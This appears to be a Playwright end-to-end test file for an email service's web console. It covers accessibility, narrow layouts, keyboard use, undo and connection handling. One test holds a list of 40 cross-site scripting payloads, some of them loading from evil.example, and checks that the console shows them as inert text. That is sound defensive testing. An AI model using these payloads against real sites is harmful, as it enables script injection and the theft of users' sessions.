/**
 * The console in a real browser, before a real sandbox: the first day, every screen with its acts, by keyboard alone, in
 * both themes and 360 pixels wide; and texts of strangers, which stay text.
 */
import t from 'tap'
import type { Browser } from 'playwright-core'
import type { NodesJson } from '../../src/api/node.ts'
import {
  complaintsAbout,
  CONTRAST,
  goTo,
  logIn,
  openPage,
  skipWithoutChromium,
  startBrowser,
  type WatchedPage,
} from '../support/browser.ts'
import { startSandbox, type SandboxProcess } from '../support/sandbox-process.ts'
import { until } from '../support/until.ts'

t.setTimeout(600_000)

const isFull = process.env['TEST_SCALE'] === 'full'

const SCREENS = [
  'home',
  'inbox',
  'messages',
  'queue',
  'ips',
  'ips/127.0.0.12',
  'providers',
  'domains',
  'domains/sandbox.test',
  'webhooks',
  'suppressions',
  'people',
  'system',
  'api',
]

let sandbox: SandboxProcess
let browser: Browser

t.before(async () => {
  if (skipWithoutChromium) return
  sandbox = await startSandbox(t)
  browser = await startBrowser(t)
})

/** A page that is logged in, with a link of its own. */
async function loggedIn(options = {}): Promise<WatchedPage> {
  const made = await sandbox.ask('POST', '/v1/admin/people', { name: 'ada' })
  const watched = await openPage(browser, options)
  await logIn(watched, (made['data'] as { url: string }).url)
  return watched
}

const link = (): string => sandbox.banner.console

t.test(
  'the first day: the link shows the inbox, and a mail is there within a second',
  { skip: skipWithoutChromium },
  async (t) => {
    const watched = await openPage(browser)
    const { page } = watched
    await logIn(watched, link())
    await page.waitForSelector('h1:has-text("Inbox")')
    await sandbox.send({
      to: 'delivered@simulator.sternpost.test',
      from: 'you@sandbox.test',
      subject: 'First',
      html: '<p>Hi</p>',
    })
    await page.waitForSelector('tbody a:has-text("First")', { timeout: 5_000 })
    await page.click('tbody a:has-text("First")')
    await page.waitForSelector('dd:has-text("pass")')
    await page.frameLocator('iframe').locator('text=Hi').waitFor()
    await page.waitForSelector('pre:has-text("email.delivered")')
    // A pointer may meet the frame while it is still being laid out.
    await page.locator('text=The message with its timeline').press('Enter')
    await page.waitForSelector('li:has-text("delivered")')
    await page.waitForSelector('pre:has-text("250")')
    await page.locator('section button:has-text("html")').press('Enter')
    await page.frameLocator('iframe').locator('text=Hi').waitFor()
    await page.locator('section button:has-text("source")').press('Enter')
    await page.waitForSelector('pre:has-text("Subject: First")')
    await goTo(watched, link(), 'messages?q=first')
    await page.waitForSelector('tbody td:has-text("First")')
    t.same(watched.faults, [])
  },
)

t.test('every screen, light and dark: nothing that keeps somebody out', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn({ reducedMotion: 'reduce' })
  for (const screen of await allScreens()) {
    await goTo(watched, link(), screen)
    t.same(await complaintsAbout(watched), [], screen)
    await watched.page.emulateMedia({ colorScheme: 'dark' })
    t.same(await complaintsAbout(watched, CONTRAST), [], `${screen}, dark`)
    await watched.page.emulateMedia({ colorScheme: 'light' })
  }
  t.same(watched.faults, [])
})

t.test('360 pixels: nothing scrolls sideways', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn({ viewport: { width: 360, height: 740 } })
  for (const screen of await allScreens()) {
    await goTo(watched, link(), screen)
    t.equal(await watched.page.evaluate('document.documentElement.scrollWidth'), 360, screen)
  }
})

const WIDE_TABLES = `[...document.querySelectorAll('.scroll')].filter((each) => each.scrollWidth > each.clientWidth).length`
const COLOURS = `[...document.querySelectorAll('.swatch')].map((each) => getComputedStyle(each).backgroundColor)`

t.test('nothing long, and nothing that is missing, hides something', { skip: skipWithoutChromium }, async (t) => {
  const long = `${'l'.repeat(64)}@${'d'.repeat(63)}.${'e'.repeat(60)}.example`
  await sandbox.send({ to: long, from: 'you@sandbox.test', subject: 's'.repeat(900) })
  await sandbox.ask('POST', '/v1/domains', { domain: 'long.unverified.test' })
  await sandbox.ask('POST', '/v1/domains/long.unverified.test/verify', {})
  const watched = await loggedIn({ viewport: { width: 1200, height: 800 } })
  const { page } = watched
  for (const width of [1200, 360]) {
    await page.setViewportSize({ width, height: 800 })
    for (const screen of ['messages', 'domains/long.unverified.test']) {
      await goTo(watched, link(), screen)
      t.equal(await page.evaluate(WIDE_TABLES), 0, `${screen}, ${width} pixels`)
    }
  }
  const hint = 'td:has-text("enter it as the strings")'
  t.equal(await page.locator(`tr:has(${hint}):has(summary:text-is("As strings of at most 255"))`).count(), 1)
  await sandbox.ask('POST', '/dev/clock', { advance: '3h' })
  await goTo(watched, link(), 'messages')
  t.match(await page.textContent('td:has(time)'), /^3 h \d min ago$/, 'by the clock of the server')
  await goTo(watched, link(), 'home')
  t.equal(await page.locator('figure g').count(), 25, 'hours without mail are a gap')
  await page.emulateMedia({ forcedColors: 'active' })
  t.equal(new Set((await page.evaluate(COLOURS)) as string[]).size, 4, 'the legend, where the system has the colours')
})

/** With a message, a captured mail and an endpoint. */
async function allScreens(): Promise<string[]> {
  const [mail] = await sandbox.list<{ id: string }>('/dev/inbox')
  const [message] = await sandbox.list<{ message_id: string }>('/v1/email')
  const [endpoint] = await sandbox.list<{ id: string }>('/v1/webhooks')
  return [...SCREENS, `inbox/${mail?.id}`, `messages/${message?.message_id}`, `webhooks/${endpoint?.id}`]
}

t.test('by keyboard alone', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  const press = async (...keys: string[]): Promise<void> => {
    for (const key of keys) await page.keyboard.press(key)
  }
  for (const [key, title] of [
    ['m', 'Messages'],
    ['q', 'Queue'],
    ['d', 'Domains'],
    ['w', 'Webhooks'],
    ['s', 'Suppressions'],
    ['y', 'System'],
  ] as const) {
    await press('g', key)
    await page.waitForSelector(`h1:has-text("${title}")`)
  }
  await press('g', 'm')
  await page.waitForSelector('tbody a')
  await press('j', 'j', 'k', 'Enter')
  await page.waitForSelector('h1:text-is("Message")')
  await press('g', 'm')
  // A list that is asked for later knows the mail that comes next: nothing would be new.
  await page.waitForSelector('tbody a')
  await press('/')
  await page.keyboard.type('nobody@')
  // What happens meanwhile takes nothing away from what is being written.
  await sandbox.send({ to: 'delivered@simulator.sternpost.test', from: 'you@sandbox.test' })
  await page.waitForSelector('button:has-text("new: show")')
  await page.keyboard.type('example.com')
  await press('Enter')
  await page.waitForSelector('text=No message is like that.')
  t.match(page.url(), 'q=nobody%40example.com')
  await press('Escape')
  await page.locator('h1').focus()
  await press('?')
  await page.waitForSelector('dialog[open]:has-text("Keys")')
  await press('Escape')
  await page.waitForSelector('dialog', { state: 'detached' })
  await press('Control+k')
  await page.waitForSelector('dialog[open]')
  await page.keyboard.type('sandbox.test')
  await page.waitForSelector('dialog li:has-text("sandbox.test")')
  await press('Enter')
  await page.waitForSelector('h1:has-text("sandbox.test")')
  t.same(watched.faults, [])
})

t.test(
  'acts: the count first, ten seconds to undo, and a row in the audit',
  { skip: skipWithoutChromium },
  async (t) => {
    const watched = await loggedIn()
    const { page } = watched
    await goTo(watched, link(), 'suppressions')
    await page.fill('input[name=email]', 'gone@example.com')
    await page.click('button:has-text("Add")')
    await page.waitForSelector('td:has-text("gone@example.com")')
    await page.click('td button:has-text("Remove")')
    await page.click('.said button:has-text("Undo")')
    await page.waitForSelector('text=Nothing was changed.')
    t.equal((await sandbox.list('/v1/suppressions?email=gone@example.com')).length, 1)
    await page.click('td button:has-text("Remove")')
    await until(
      'the address is off the list',
      async () => (await sandbox.list('/v1/suppressions?email=gone@example.com')).length === 0,
    )
    await goTo(watched, link(), 'people')
    await page.waitForSelector('td:has-text("suppression removed")')
    t.same(watched.faults, [])
  },
)

t.test(
  'whoever runs the DNS sees the records of one domain by a link, and nothing else',
  { skip: skipWithoutChromium },
  async (t) => {
    const made = await sandbox.ask('POST', '/v1/domains/sandbox.test/link')
    const { url } = made['data'] as { url: string }
    const watched = await openPage(browser)
    const { page } = watched
    await page.goto(url)
    await page.waitForSelector('td:has-text("_domainkey.sandbox.test")')
    t.same(await complaintsAbout(watched), [])
    t.same(await page.context().cookies(), [])
    t.equal(await page.locator('script, a, form').count(), 0)
    for (const wrong of [
      url.replace('sandbox.test/', 'other.test/'),
      `${url.slice(0, -1)}${url.endsWith('A') ? 'B' : 'A'}`,
      url.replace(/\d{10}-/, (ends) => `${Number(ends.slice(0, -1)) + 60}-`),
      url.replace(/[^/]*$/, ''),
    ]) {
      t.equal((await fetch(wrong)).status, 404, wrong)
    }
  },
)

const HARM = 'globalThis.harmed=1'
/** Ways in which a text has become a program elsewhere. */
const PAYLOADS = [
  `<script>${HARM}</script>`,
  `<ScRiPt>${HARM}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `</title><script>${HARM}</script>`,
  `</textarea><script>${HARM}</script>`,
  `</style><script>${HARM}</script>`,
  `--><script>${HARM}</script>`,
  `]]><script>${HARM}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
  `<img src=x onerror="${HARM}">`,
  `<img/src=x/onerror=${HARM}>`,
  `<img src=x onerror=&#103;lobalThis.harmed=1>`,
  `<img srcset=x onerror=${HARM}>`,
  `<image href=x onerror=${HARM}>`,
  `"><svg onload=${HARM}>`,
  `<svg><script>${HARM}</script></svg>`,
  `<svg><animate onbegin=${HARM} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HARM}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HARM}>`,
  `<math href="javascript:${HARM}">x</math>`,
  `'><iframe srcdoc='<script>top.harmed=1</script>'>`,
  `<iframe src="javascript:top.harmed=1"></iframe>`,
  `<object data="javascript:${HARM}"></object>`,
  `<embed src="data:text/html,<script>${HARM}</script>">`,
  `<a href="javascript:${HARM}">x</a>`,
  `<a href="java&#10;script:${HARM}">x</a>`,
  `<form action="javascript:${HARM}"><button>x</button></form>`,
  `<button formaction="javascript:${HARM}">x</button>`,
  `<details open ontoggle=${HARM}>x</details>`,
  `<input autofocus onfocus=${HARM}>`,
  `<video><source onerror=${HARM}></video>`,
  `<body onload=${HARM}>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${HARM}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import"//evil.example/x.css"</style>`,
  `<div style="background:url(javascript:${HARM})">x</div>`,
  `javascript:${HARM}`,
  `\${${HARM}}`,
  `{{constructor.constructor("${HARM}")()}}`,
]

t.test('what strangers wrote stays text', { skip: skipWithoutChromium }, async (t) => {
  t.equal(PAYLOADS.length, 40)
  const replies = PAYLOADS.map((payload, number) => ({
    to: `evil${number}@example.com`,
    stage: 'rcpt',
    reply: `550 5.1.1 ${payload}`,
    times: 1,
  }))
  await sandbox.ask('PUT', '/dev/replies', replies)
  for (const [number, payload] of PAYLOADS.entries()) {
    const mail = {
      from: 'you@sandbox.test',
      subject: payload,
      html: `<p>Hi</p>${payload}`,
      text: payload,
      tags: { tag: payload.slice(0, 60) },
      metadata: { note: payload },
      attachments: [{ name: payload.replaceAll('/', '_'), content: 'eA==' }],
    }
    for (const to of [`evil${number}@example.com`, 'ada@example.com']) {
      const sent = await sandbox.ask('POST', '/v1/email/send', { ...mail, to })
      t.equal(sent['success'], true, payload)
    }
  }
  const bounced = (): Promise<{ message_id: string }[]> => sandbox.list('/v1/email?state=bounced&limit=100')
  await until('each mail to evil… bounced', async () => (await bounced()).length >= PAYLOADS.length)
  const watched = await loggedIn({ userAgent: PAYLOADS.slice(0, 3).join(' ') })
  const { page } = watched
  const look = async (screen: string): Promise<void> => {
    t.notOk(await page.evaluate(`'harmed' in globalThis`), screen)
    const built =
      'main script, main svg[onload], main img, main iframe[srcdoc], main style, main base, main form[action]'
    t.equal(await page.locator(built).count(), 0, screen)
  }
  for (const screen of ['inbox', 'messages', 'messages?q=status:bounced', 'people', 'home', 'providers']) {
    await goTo(watched, link(), screen)
    await look(screen)
  }
  // Newest first: half of the payloads are seen as a mail, the others as a message.
  const partOf = <Item>(found: readonly Item[], remainder: number): Item[] =>
    found.slice(0, PAYLOADS.length).filter((_, index) => isFull || index % 2 === remainder)
  for (const { id } of partOf(await sandbox.list<{ id: string }>('/dev/inbox?limit=100'), 0)) {
    await goTo(watched, link(), `inbox/${id}`)
    for (const view of ['text', 'source', 'headers', 'links']) await page.click(`.choice button:has-text("${view}")`)
    await look(`inbox/${id}`)
  }
  for (const { message_id: id } of partOf(await bounced(), 1)) {
    await goTo(watched, link(), `messages/${id}`)
    await page.click('section button:has-text("text")')
    await page.waitForSelector('section pre')
    await look(`messages/${id}`)
  }
  t.same(watched.faults, [])
})

t.test('what a stranger claims in reports and answers stays text', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  const day = '2026-11-20'
  const counts = { messages: 1, passed: 0, failed: 1, dkim_passed: 0, spf_passed: 0, quarantined: 0, rejected: 0 }
  const sources = PAYLOADS.map((ip) => ({ ip, known: false, ...counts, first_day: day, last_day: day }))
  const dmarc = { reports: 1, reporters: PAYLOADS, ...counts, sources, days: [] }
  const claims = { domain: 'sandbox.test', from: day, to: day, policy: null, hint: PAYLOADS.join(' '), dmarc, tls: [] }
  await page.route('**/v1/domains/*/authentication*', (route) =>
    route.fulfill({ json: { success: true, data: claims } }),
  )
  await goTo(watched, link(), 'domains/sandbox.test')
  await page.waitForSelector('td:has-text("not yours")')
  t.equal(await page.locator('main script, main img, main iframe, main svg[onload]').count(), 0)
  t.notOk(await page.evaluate(`'harmed' in globalThis`))
  t.same(watched.faults, [])
})

t.test('nodes: who sends from where, who declared whom dead', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn({ viewport: { width: 360, height: 740 } })
  const { page } = watched
  await goTo(watched, link(), 'system')
  await page.waitForSelector('p:has-text("There is one node, with SQLite.")')
  const living = { draining: false, version: '1.0.0', config_hash: 'a', started_at: 1, seen_at: 2, ended_by: null }
  const answer: NodesJson = {
    nodes: [
      { ...living, node_id: 'mail-1', state: 'living', answers: true, ips: ['203.0.113.7', '203.0.113.8'] },
      { ...living, node_id: 'mail-2', state: 'living', draining: true, answers: false, ips: [] },
      { ...living, node_id: 'mail-3', state: 'dead', answers: false, ended_by: 'mail-1', ips: [] },
    ],
    problems: [{ ip: '203.0.113.9', problem: PAYLOADS.join(' ') }],
  }
  await page.route('**/v1/admin/nodes', (route) => route.fulfill({ json: { success: true, data: answer } }))
  await page.reload()
  await page.waitForSelector('table:has-text("mail-3")')
  const rows = await page.locator('table:has-text("mail-3") tbody tr').allInnerTexts()
  t.match(rows, [/mail-1 \(here\).*living.*203\.0\.113\.7, 203\.0\.113\.8/s, /draining/, /dead\s*, declared by mail-1/])
  await page.waitForSelector('p.problem:has-text("203.0.113.9 could not be taken")')
  t.equal(await page.locator('main script, main img, main iframe, main svg[onload]').count(), 0)
  t.same(await complaintsAbout(watched), [])
  t.equal(await page.evaluate('document.documentElement.scrollWidth'), 360)
  t.same(watched.faults, [])
})

/** As when another tab is before it: a browser without a window shows all of them. */
async function setSeen({ page }: WatchedPage, isSeen: boolean): Promise<void> {
  await page.evaluate(
    `Object.defineProperty(document, 'visibilityState', { configurable: true, value: '${isSeen ? 'visible' : 'hidden'}' })`,
  )
  await page.evaluate(`document.dispatchEvent(new Event('visibilitychange'))`)
}

t.test('tabs that nobody sees hold no connection, and miss nothing', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  await goTo(watched, link(), 'messages')
  await setSeen(watched, false)
  // A browser has six connections to a server for all tabs together.
  for (const screen of ['inbox', ...Array<string>(5).fill('messages')]) {
    const tab = { page: await page.context().newPage(), faults: [] }
    await goTo(tab, link(), screen)
    await setSeen(tab, false)
  }
  await goTo(watched, link(), 'messages')
  await setSeen(watched, false)
  await sandbox.send({ to: 'later@example.com', from: 'you@sandbox.test' })
  await until(
    'nothing tells of it any more',
    async () => (await sandbox.list('/v1/email?state=delivered&recipient=later@example.com')).length === 1,
  )
  await setSeen(watched, true)
  await page.waitForSelector('button:has-text("1 new: show")')
  t.same(watched.faults, [])
})

t.test(
  'a stream that is refused is no connection, and is asked for again',
  { skip: skipWithoutChromium },
  async (t) => {
    const watched = await loggedIn()
    const { page } = watched
    await page.clock.install()
    await page.route('**/v1/webhooks/stream*', (route) => route.fulfill({ status: 429, json: {} }))
    await goTo(watched, link(), 'messages')
    await page.waitForSelector('text=The connection to the server is lost')
    await page.unroute('**/v1/webhooks/stream*')
    await sandbox.send({ to: 'later@example.com', from: 'you@sandbox.test' })
    await page.clock.runFor(6_000)
    await page.waitForSelector('button:has-text("1 new: show")')
    t.equal(await page.locator('text=The connection to the server is lost').count(), 0)
  },
)
